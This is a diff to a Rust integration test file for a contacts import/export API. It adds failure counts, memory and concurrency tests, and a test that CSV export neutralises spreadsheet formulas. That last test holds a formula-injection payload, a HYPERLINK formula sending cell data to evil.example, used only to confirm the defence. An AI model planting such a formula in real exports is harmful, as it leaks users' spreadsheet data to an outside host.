@@ -1,6 +1,7 @@
-use crate::helpers::{TestApp, error_message, spawn_app};
+use crate::helpers::{PASSWORD, Process, TestApp, cli, error_message, eventually, spawn_app};
 use reqwest::StatusCode;
 use serde_json::{Value, json};
+use std::time::Duration;
 use switchboard::accounts::Plan;
 
 async fn import(
@@ -47,7 +48,10 @@ async fn csv_with_quotes_newlines_bom_and_crlf_imports() {
                \"Rao, Asha\",+919876543210,asha@example.com,vip;newsletter,\"line one\r\nline two\",7\r\n\
                \"Bob \"\"The Builder\"\"\",+14155550100,,,,3\r\n";
     let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
-    assert_eq!(outcome, json!({"created": 2, "updated": 0, "failed": []}));
+    assert_eq!(
+        outcome,
+        json!({"created": 2, "updated": 0, "failed": [], "failedCount": 0})
+    );
     let people = everyone(&app, &key, "/v1/contacts").await;
     assert_eq!(people[0]["name"], "Rao, Asha");
     assert_eq!(people[0]["tags"], json!(["newsletter", "vip"]));
@@ -73,7 +77,10 @@ async fn a_reimport_updates_instead_of_duplicating() {
     // x1 is found by externalId (its phone changes); Bob is found by phone.
     let second = "externalId,name,phone,tags,contactStage\nx1,Asha Rao,+919999999999,new,\n,,+1 415 555 0100,,Customer\n";
     let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", second).await;
-    assert_eq!(outcome, json!({"created": 0, "updated": 2, "failed": []}));
+    assert_eq!(
+        outcome,
+        json!({"created": 0, "updated": 2, "failed": [], "failedCount": 0})
+    );
     let people = everyone(&app, &key, "/v1/contacts").await;
     assert_eq!(people.len(), 2);
     assert_eq!(people[0]["name"], "Asha Rao");
@@ -103,7 +110,10 @@ async fn rows_of_one_file_naming_one_person_apply_in_order() {
     csv.push_str(",Fourth,+14155550102,d\n"); // A again, by its new phone, far below
     csv.push_str("x9,Fifth,,e\n"); // and by x9 once more
     let outcome = import_ok(&app, &key, "/v1/contacts/import", "text/csv", csv).await;
-    assert_eq!(outcome, json!({"created": 201, "updated": 4, "failed": []}));
+    assert_eq!(
+        outcome,
+        json!({"created": 201, "updated": 4, "failed": [], "failedCount": 0})
+    );
     let people = everyone(&app, &key, "/v1/contacts").await;
     assert_eq!(people.len(), 201);
     let a = &people[0];
@@ -282,7 +292,7 @@ async fn an_export_reimports_to_the_same_data() {
     let outcome = import_ok(&app, &b, "/v1/contacts/import", "text/csv", csv.clone()).await;
     assert_eq!(
         outcome,
-        json!({"created": 2502, "updated": 0, "failed": []})
+        json!({"created": 2502, "updated": 0, "failed": [], "failedCount": 0})
     );
     let strip = |mut v: Vec<Value>| {
         for p in &mut v {
@@ -574,4 +584,177 @@ async fn every_writer_of_tags_keeps_the_copies_and_counts_equal_to_the_links() {
     };
     assert_eq!(count_of("vip"), 4, "A, B, C and the client");
     assert_eq!(count_of("late"), 1, "P7; Gone is deleted");
+}
+
+/// The most memory the process `pid` held, from `/proc` (VmHWM), in bytes.
+fn peak_rss(pid: u32) -> u64 {
+    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
+    let line = status.lines().find(|l| l.starts_with("VmHWM:")).unwrap();
+    let kib: u64 = line.split_whitespace().nth(1).unwrap().parse().unwrap();
+    kib * 1024
+}
+
+#[tokio::test]
+async fn a_64_mib_file_of_bad_rows_gets_a_small_answer_in_bounded_memory() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("sb.db");
+    let email = ["--email", "bulk@example.com"];
+    cli(
+        &db,
+        &[&["account", "create", "--plan", "unlimited"][..], &email].concat(),
+        &format!("{PASSWORD}\n"),
+    )
+    .await;
+    let key = cli(&db, &[&["key", "create"][..], &email].concat(), "").await;
+    let key = key.lines().last().unwrap().trim().to_string();
+    let server = Process::serve(&db, &[], "warn").await;
+
+    // Every row's name is too long: each one fails, with its own message.
+    let row = format!("{},+14155550100\n", "n".repeat(400));
+    let limit = 64 * 1024 * 1024;
+    let header = "name,phoneNumber\n";
+    let rows = (limit - header.len()) / row.len();
+    let mut csv = String::with_capacity(limit);
+    csv.push_str(header);
+    for _ in 0..rows {
+        csv.push_str(&row);
+    }
+    let res = reqwest::Client::new()
+        .post(format!("{}/v1/contacts/import", server.base))
+        .header("x-api-key", &key)
+        .header("content-type", "text/csv")
+        .body(csv)
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::OK);
+    let answer = res.bytes().await.unwrap();
+    assert!(
+        answer.len() < 1024 * 1024,
+        "an answer of {} bytes",
+        answer.len()
+    );
+    let outcome: Value = serde_json::from_slice(&answer).unwrap();
+    assert_eq!(outcome["failedCount"], rows as u64);
+    let failed = outcome["failed"].as_array().unwrap();
+    assert_eq!(failed.len(), 1_000, "the first thousand are listed");
+    assert_eq!(
+        (failed[0]["row"].as_u64(), failed[999]["row"].as_u64()),
+        (Some(2), Some(1001))
+    );
+    let peak = peak_rss(server.child.id().unwrap());
+    assert!(
+        peak < 200 * 1024 * 1024,
+        "the server peaked at {} MB",
+        peak / (1024 * 1024)
+    );
+}
+
+#[tokio::test]
+async fn an_account_runs_one_import_at_a_time() {
+    use std::io::Write;
+    let app = spawn_app().await;
+    let key = app.create_account("a@example.com", Plan::Unlimited).key;
+    app.ok("GET", "/v1/account", &key, None).await; // the server is serving
+    // An import whose body is still coming holds the account's place.
+    let addr = app.base.trim_start_matches("http://").to_string();
+    let mut slow = std::net::TcpStream::connect(&addr).unwrap();
+    write!(
+        slow,
+        "POST /v1/contacts/import HTTP/1.1\r\nhost: {addr}\r\nx-api-key: {key}\r\n\
+         content-type: text/csv\r\ncontent-length: 100000\r\n\r\nname\r\n"
+    )
+    .unwrap();
+    slow.flush().unwrap();
+    // Its head reaches the handler before any other import is sent.
+    tokio::time::sleep(Duration::from_millis(300)).await;
+    let busy = eventually(
+        Duration::from_secs(5),
+        "the first import holds the place",
+        || async {
+            let res = import(
+                &app,
+                &key,
+                "/v1/contacts/import",
+                "text/csv",
+                "name\nAsha\n",
+            )
+            .await;
+            (res.status() == StatusCode::TOO_MANY_REQUESTS).then_some(res)
+        },
+    )
+    .await;
+    assert!(busy.headers().contains_key("retry-after"));
+    let other = app.create_account("b@example.com", Plan::Unlimited).key;
+    import_ok(
+        &app,
+        &other,
+        "/v1/contacts/import",
+        "text/csv",
+        "name\nBo\n",
+    )
+    .await;
+    drop(slow);
+    eventually(
+        Duration::from_secs(5),
+        "the place is given back",
+        || async {
+            let res = import(
+                &app,
+                &key,
+                "/v1/contacts/import",
+                "text/csv",
+                "name\nAsha\n",
+            )
+            .await;
+            (res.status() == StatusCode::OK).then_some(())
+        },
+    )
+    .await;
+}
+
+#[tokio::test]
+async fn an_export_defuses_formulas_and_reads_them_back() {
+    let app = spawn_app().await;
+    let key = app.create_account("a@example.com", Plan::Unlimited).key;
+    let name = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    app.ok(
+        "POST",
+        "/v1/contacts",
+        &key,
+        Some(json!({"name": name, "phoneNumber": "+14155550100", "attributes": {"balance": -5, "note": "@SUM(1)"}})),
+    )
+    .await;
+    let csv = app
+        .client
+        .get(app.url("/v1/contacts/export"))
+        .header("x-api-key", &key)
+        .send()
+        .await
+        .unwrap()
+        .text()
+        .await
+        .unwrap();
+    let row = csv.lines().nth(1).unwrap();
+    assert!(row.contains("\"'=HYPERLINK("), "{row}");
+    assert!(
+        row.contains(",'+14155550100,") && row.contains(",'-5,") && row.contains(",'@SUM(1)"),
+        "{row}"
+    );
+    for cell in row.split(',') {
+        assert!(
+            !cell.trim_matches('"').starts_with(['=', '+', '-', '@']),
+            "{cell} in {row}"
+        );
+    }
+
+    let other = app.create_account("b@example.com", Plan::Unlimited).key;
+    import_ok(&app, &other, "/v1/contacts/import", "text/csv", csv).await;
+    let back = app.ok("GET", "/v1/contacts", &other, None).await;
+    assert_eq!(back[0]["name"], name);
+    assert_eq!(back[0]["phoneNumber"], "+14155550100");
+    assert_eq!(
+        back[0]["attributes"],
+        json!({"balance": -5, "note": "@SUM(1)"})
+    );
 }
